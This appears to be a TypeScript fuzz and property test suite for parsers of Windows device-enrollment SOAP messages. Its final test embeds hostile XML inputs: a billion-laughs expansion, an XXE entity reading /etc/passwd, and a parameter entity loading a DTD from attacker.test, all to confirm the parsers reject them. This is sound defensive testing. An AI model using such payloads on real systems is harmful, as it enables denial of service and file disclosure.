import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { mutated } from '../testing/arbitraries.js';
import { onlyParseErrors, rejectsWith } from '../testing/assert.js';
import { buildDiscoverRequest, buildDiscoverResponse, parseDiscoverRequest, parseDiscoverResponse } from './discovery.js';
import { buildRequestSecurityToken, buildRequestSecurityTokenResponse, parseRequestSecurityToken, parseRequestSecurityTokenResponse } from './enrollment.js';
import { parseSoapFault } from './fault.js';
import { buildGetPoliciesRequest, buildGetPoliciesResponse, parseGetPoliciesRequest, parseGetPoliciesResponse } from './policy.js';

const parsers = [parseDiscoverRequest, parseDiscoverResponse, parseGetPoliciesRequest, parseGetPoliciesResponse, parseRequestSecurityToken, parseRequestSecurityTokenResponse, parseSoapFault];

const valid = [
  buildDiscoverRequest({ messageId: 'urn:uuid:1', to: 'https://e/', emailAddress: 'a@b', requestVersion: '4.0', deviceType: 'CIMClient_Windows', applicationVersion: '10.0', osEdition: '4', authPolicies: ['OnPremise', 'Federated'] }),
  buildDiscoverResponse({ relatesTo: 'urn:uuid:1', authPolicy: 'OnPremise', enrollmentVersion: '4.0', enrollmentPolicyServiceUrl: 'https://p', enrollmentServiceUrl: 'https://e', activityId: 'x' }),
  buildGetPoliciesRequest({ messageId: 'urn:uuid:2', binarySecurityToken: { valueType: 'v', encodingType: 'e', value: 'dG9rZW4=' } }),
  buildGetPoliciesResponse({ relatesTo: 'urn:uuid:2', validityPeriodSeconds: 10, renewalPeriodSeconds: 5 }),
  buildRequestSecurityToken({ messageId: 'urn:uuid:3', csrBase64: 'TUlJQw==', headerToken: { valueType: 'urn:ietf:params:oauth:token-type:jwt', value: 'eyJ' }, additionalContext: [['MAC', '1'], ['MAC', '2']] }),
  buildRequestSecurityTokenResponse({ relatesTo: 'urn:uuid:3', provisioningDocXml: '<wap-provisioningdoc version="1.1"/>', requestId: '0', now: new Date(0) }),
];

function check(input: string): void {
  for (const parse of parsers) {
    const start = performance.now();
    onlyParseErrors(() => parse(input));
    assert.ok(performance.now() - start < 2000, 'parser took longer than 2s');
  }
}

test('random strings only ever raise ProtocolParseError', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300 }), check), { numRuns: 500 });
});

test('mutated and truncated envelopes only ever raise ProtocolParseError', () => {
  fc.assert(fc.property(fc.constantFrom(...valid).chain(mutated), check), { numRuns: 1000 });
  for (const xml of valid) for (let cut = 0; cut < xml.length; cut += 7) check(xml.slice(0, cut));
});

test('each parser rejects the other messages with a ProtocolParseError, not a crash', () => {
  for (const xml of valid) check(xml);
  rejectsWith('soap.body', () => parseDiscoverRequest(valid[2]));
  rejectsWith('soap.envelope', () => parseDiscoverRequest('<Discover/>'));
  rejectsWith('soap.messageid', () => parseDiscoverRequest(valid[0].replace(/<a:MessageID>.*<\/a:MessageID>/, '')));
  rejectsWith('mde2.csr', () => parseRequestSecurityToken(valid[4].replace(/<wsse:BinarySecurityToken ValueType="http:\/\/schemas.microsoft.com\/windows\/pki[^]*?<\/wsse:BinarySecurityToken>/, '')));
  rejectsWith('mde2.base64', () => parseRequestSecurityTokenResponse(valid[5].replace(/(DeviceEnrollmentProvisionDoc"[^>]*>)[^<]*/, '$1!!not base64!!')));
  rejectsWith('soap.fault', () => parseDiscoverResponse('<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><s:Fault/></s:Body></s:Envelope>'));
});

test('billion laughs and external entities are rejected, never expanded', () => {
  const laughs =
    '<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">' +
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header><a:MessageID xmlns:a="http://www.w3.org/2005/08/addressing">&d;</a:MessageID></s:Header><s:Body/></s:Envelope>';
  const xxe = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><s:Envelope><s:Body>&xxe;</s:Body></s:Envelope>';
  const parameterEntity = '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.test/x.dtd"> %p;]><Envelope/>';
  for (const parse of parsers) {
    rejectsWith('xml.dtd', () => parse(laughs));
    rejectsWith('xml.dtd', () => parse(xxe));
    rejectsWith('xml.dtd', () => parse(parameterEntity));
    rejectsWith('xml.entity', () => parse(valid[0].replace('a@b', '&d;')));
    rejectsWith('xml.size', () => parse(valid[0].replace('a@b', 'x'.repeat(300_000))));
  }
});
